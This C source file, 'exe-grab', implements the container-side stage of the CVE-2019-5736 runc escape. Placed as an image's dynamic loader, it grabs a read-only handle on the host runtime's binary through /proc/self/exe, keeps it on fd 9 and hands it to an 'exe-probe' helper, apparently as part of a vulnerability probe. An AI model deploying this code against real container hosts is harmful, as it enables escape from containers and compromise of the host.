/* exe-grab: the attacker's half of CVE-2019-5736, placed in an image as its dynamic loader
 * (/lib64/ld-linux-x86-64.so.2). When the runtime execs an image file whose first line is
 * "#!/proc/self/exe", the kernel loads the binary that is doing the exec, the runtime's own shim,
 * and then this file as that binary's loader: here, /proc/self/exe is the shim. This opens it
 * read-only onto fd HELD_FD (not close-on-exec) and hands it to exe-probe ("hold"), which keeps it
 * after the shim is gone. A loader gets the main program's auxv, so it cannot use libc's start-up:
 * raw syscalls only (built -nostdlib -static). */
#include <fcntl.h>
#include <sys/syscall.h>

#define HELD_FD 9

static long sys3(long nr, long a, long b, long c) {
#if defined(__x86_64__)
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
#elif defined(__aarch64__)
  register long x8 __asm__("x8") = nr;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
  return x0;
#else
#error "exe-grab: add this architecture's syscall instruction"
#endif
}

#if defined(__x86_64__)
__attribute__((force_align_arg_pointer))
#endif
void _start(void) {
  static char *const hold[] = {"/exe-probe", "hold", 0};
  static char *const nofd[] = {"/exe-probe", "nofd", 0};
  static char *const envp[] = {0};
  long fd = sys3(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY);
  if (fd >= 0 && fd != HELD_FD) {
    sys3(SYS_dup3, fd, HELD_FD, 0);
    sys3(SYS_close, fd, 0, 0);
  }
  sys3(SYS_execve, (long)"/exe-probe", (long)(fd >= 0 ? hold : nofd), (long)envp);
  sys3(SYS_exit_group, 127, 0, 0);
  for (;;) {
  }
}
